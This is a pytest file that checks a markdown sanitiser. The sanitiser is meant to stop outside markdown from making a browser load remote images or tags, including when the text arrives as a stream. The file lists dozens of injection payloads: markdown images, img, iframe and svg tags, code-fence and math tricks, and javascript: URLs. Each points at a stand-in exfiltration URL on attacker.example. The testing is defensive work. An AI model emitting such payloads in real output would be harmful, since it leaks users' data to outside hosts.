"""markup/safe_markdown.py: hostile markdown from outside cannot make the browser load anything.

The invariant checked on every case: after ``outside_markdown`` no ``![`` is left except a ``data:``
image, and no ``<`` starts a tag outside code; ``plain`` leaves no markdown character unescaped.
"""

from __future__ import annotations

import re

import pytest

from markup.safe_markdown import IMAGE_MARK, ZWSP, StreamNeutraliser, outside_markdown, plain, safe_url, source_link
from views.components import split_blocks

EVIL = "http://attacker.example/leak?q=secret"

HOSTILE = [
    f"![x]({EVIL})",
    f"![]({EVIL})",
    f'![x]({EVIL} "title")',
    f"![x](<{EVIL}>)",
    f"![x][r]\n\n[r]: {EVIL}",
    f"![r]\n\n[r]: {EVIL}",
    f"![r][]\n\n[r]: {EVIL}",
    f"![a [b](data:image/png;base64,AA)]({EVIL})",  # brackets in the alt text: the outer image is remote
    f"![a\\](data:image/png;base64,AA)]({EVIL})",  # an escaped bracket
    f"![a`](data:image/png;base64,AA)`]({EVIL})",  # a code span swallowing the first "]"
    f'![a<x y="](data:image/png;base64,AA)">]({EVIL})',  # raw HTML swallowing it
    f"!![x]({EVIL})",  # a "!" before the rewritten link must not form a new image
    f"[![x]({EVIL})](http://ok.example)",  # an image inside a link
    f"![x](http://a.example/(b)/{EVIL})",  # balanced parentheses in the destination
    f"![x](javascript:alert(1))![y]({EVIL})",
    f"```\n![x]({EVIL})\n```",
    f"- a\n  ```\n![x]({EVIL})\n```",  # a fence in a list item that the next line closes
    f"<div>\n```\n\n![x]({EVIL})\n```",  # an HTML block hiding a fence opener
    f"`![x]({EVIL})`",
    f"``![x]({EVIL})",  # an unclosed code span is no code span
    f'<img src="{EVIL}">',
    f'<picture><source srcset="{EVIL}"></picture>',
    f'<video src="{EVIL}"></video><audio src="{EVIL}"></audio>',
    f'<iframe src="{EVIL}"></iframe><link rel="stylesheet" href="{EVIL}">',
    f'<svg><image href="{EVIL}"/></svg>',
    f"<{EVIL}.png>",
    "<!-- x --><?php ?><!DOCTYPE x>",
    f"> ![quoted]({EVIL})",
    f"1. ![listed]({EVIL})\n   * ![nested]({EVIL})",
    f"| a |\n|---|\n| ![cell]({EVIL}) |",
    f"# ![heading]({EVIL})",
    f"**![bold]({EVIL})**",
    f"![]({EVIL}) <b> ![]({EVIL}) <img src={EVIL}>",  # tags after rewritten images (longer than the original)
]


def _leftover_images(text: str) -> list[str]:
    """Every ``![`` that is not the start of a data: image."""
    return [m.group() for m in re.finditer(r"!\[(?![^\]]*\]\(data:)", text)]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_remote_image_or_tag_survives(text: str) -> None:
    safe = outside_markdown(text)
    assert _leftover_images(safe) == [], safe
    assert "![" not in safe.replace("![a [b](data:", ""), safe  # not even the remote half of a data trick
    for tag in ("<img", "<picture", "<source", "<video", "<audio", "<iframe", "<link", "<svg", "<http", "<!"):
        if tag in text and "```" not in text and "`" + tag not in text:
            assert tag not in safe, safe


@pytest.mark.parametrize("text", HOSTILE)
def test_every_prefix_of_a_streamed_answer_is_safe(text: str) -> None:
    """The live tail is sanitised whole on each update: no prefix, and no block of it, yields an image."""
    for end in range(len(text) + 1):
        for block in split_blocks(text[:end]) or [""]:
            safe = outside_markdown(block)
            assert "![" not in safe or not _leftover_images(safe), (text[:end], safe)


def test_an_inline_image_becomes_a_link_that_names_its_host() -> None:
    assert outside_markdown(f"see ![a chart]({EVIL}) here") == (
        f"see {IMAGE_MARK} [a chart (image from attacker\\.example)]({EVIL}) here"
    )
    assert outside_markdown(f"![]({EVIL})") == f"{IMAGE_MARK} [image (image from attacker\\.example)]({EVIL})"
    assert outside_markdown(f"![a](<{EVIL}>)") == f"{IMAGE_MARK} [a (image from attacker\\.example)]({EVIL})"


def test_a_non_http_image_becomes_text() -> None:
    assert outside_markdown("![x](javascript:alert)") == f"{IMAGE_MARK} x (image not shown)"
    assert outside_markdown("![x](/_stcore/health)") == f"{IMAGE_MARK} x (image not shown)"


def test_data_images_stay_images() -> None:
    image = "![dot](data:image/png;base64,iVBORw0KGgo=)"
    assert outside_markdown(image) == image


def test_reference_images_and_code_lose_only_the_image() -> None:
    assert outside_markdown("![x][r]") == f"!{ZWSP}[x][r]"
    assert outside_markdown(f"```\n![x]({EVIL})\n```") == f"```\n!{ZWSP}[x]({EVIL})\n```"


def test_ordinary_markdown_and_code_are_left_alone() -> None:
    text = "# Title\n\n**bold** [link](https://example.com) `a<b` and 1 < 2\n\n```html\n<div>x</div>\n```\n"
    assert outside_markdown(text) == text


def test_tags_outside_code_are_broken_with_an_invisible_space() -> None:
    assert outside_markdown("<img src=x>") == f"<{ZWSP}img src=x>"
    assert outside_markdown("a </b> <!-- c -->") == f"a <{ZWSP}/b> <{ZWSP}!-- c -->"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![x](http://e.x/?q=1)", "\\!\\[x\\]\\(http\\://e\\.x/?q\\=1\\)"),
        ("**b** _i_ `c` $x$ :red[y] :material/home:", "\\*\\*b\\*\\* \\_i\\_ \\`c\\` \\$x\\$ \\:red\\[y\\] "
         "\\:material/home\\:"),
        ("# h\n- item", "\\# h \\- item"),
        ("<img src=x>", "\\<img src\\=x\\>"),
        ("a\\b", "a\\\\b"),
        (None, ""),
    ],
)
def test_plain_escapes_every_markdown_character(text: str | None, expected: str) -> None:
    assert plain(text) == expected


def test_plain_keeps_line_breaks_when_asked() -> None:
    assert plain("a\nb*", one_line=False) == "a  \nb\\*"


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://example.com/a?b=c#d", "https://example.com/a?b=c#d"),
        ("http://example.com/a(b)", "http://example.com/a%28b%29"),
        ("https://a) ![](http://evil)", None),  # whitespace: a breakout attempt
        ("https://a)![](http://evil)", None),  # not a host name
        ("https://a/)![](http://evil)", "https://a/%29%21%5B%5D%28http://evil%29"),
        ("http://[::1]:8080/x", "http://[::1]:8080/x"),
        ("https://user@example.com/", "https://user@example.com/"),
        ("javascript:alert(1)", None),
        ("data:text/html,x", None),
        ("ftp://example.com/x", None),
        ("//evil.example/x", None),
        ("/relative", None),
        ("https://", None),
        ("https://ex\nample.com", None),
        ("https://example.com:99999/", None),
        ("https://example.com/<x>\"'`", "https://example.com/%3Cx%3E%22%27%60"),
        ("", None),
        (None, None),
    ],
)
def test_safe_url_accepts_only_plain_http_urls(url: str | None, expected: str | None) -> None:
    assert safe_url(url) == expected


def test_source_link_escapes_the_title_and_encodes_the_url() -> None:
    assert source_link("![t](http://evil)", "https://ok.example/p") == (
        "[\\!\\[t\\]\\(http\\://evil\\)](https://ok.example/p)"
    )
    assert source_link("t", "https://a) ![](http://evil)") == "t"
    assert source_link(None, "javascript:x") == "javascript\\:x"
    assert "![" not in source_link("x", "https://a)![](http://evil)")


@pytest.mark.parametrize("text", HOSTILE)
def test_streamed_pieces_never_join_into_an_image_or_a_tag(text: str) -> None:
    """st.write_stream draws the concatenation of what live_text yields: every split of the text into
    pieces (an image's "!" in one chunk, its "[" in the next) must still give no ``![`` and no tag."""
    for cut in range(len(text) + 1):
        for second in range(cut, len(text) + 1):
            neutraliser = StreamNeutraliser()
            drawn = ""
            for piece in (text[:cut], text[cut:second], text[second:]):
                drawn += neutraliser.feed(piece)
                assert "![" not in drawn and not re.search(r"<[A-Za-z/!?]", drawn), drawn
            drawn += neutraliser.flush()
            assert drawn.replace(ZWSP, "") == text
            assert "![" not in drawn and not re.search(r"<[A-Za-z/!?]", drawn), drawn


# Math (markup/math_markdown.py runs before safe_markdown): turning \(…\) and \[…\] into dollars must not
# open a hole. KaTeX runs with trust off, so \href, \url and \includegraphics load nothing
# (tests/test_browser_math.py checks that in the browser); here: no image or tag forms around them.
MATH_HOSTILE = [
    f"!\\(x\\)[a]({EVIL})",  # the "!" before a formula, a link after it
    f"!\\[x^2\\]({EVIL})",  # an escaped image is no display formula
    f"\\(![x]({EVIL})\\)",  # an image inside a formula
    f"$$\n![x]({EVIL})\n$$",
    f'\\(<img src="{EVIL}">\\)',  # a tag inside a formula
    f'$<img src="{EVIL}">$ and \\[<svg><image href="{EVIL}"/></svg>\\]',
    f"\\(\\href{{{EVIL}}}{{click}}\\) \\[\\url{{{EVIL}}}\\] \\(\\includegraphics{{{EVIL}}}\\)",
    f"!$x$[y]({EVIL}) !\\(\\)[z]({EVIL})",
    f"\\(x\\)![y]({EVIL})\\(z\\)",
]


@pytest.mark.parametrize("text", MATH_HOSTILE)
def test_math_opens_no_hole(text: str) -> None:
    from markup.math_markdown import MathStream
    from views.components import block_markdown

    safe = block_markdown(text)
    assert _leftover_images(safe) == [] and "![" not in safe, safe
    assert not re.search(r"<[A-Za-z/!?]", safe), safe
    for cut in range(len(text) + 1):  # live: the math stream, then the neutraliser, as live_text chains them
        math, neutraliser, drawn = MathStream(), StreamNeutraliser(), ""
        for piece in (text[:cut], text[cut:]):
            drawn += neutraliser.feed(math.feed(piece))
        drawn += neutraliser.feed(math.flush()) + neutraliser.flush()
        assert "![" not in drawn and not re.search(r"<[A-Za-z/!?]", drawn), drawn
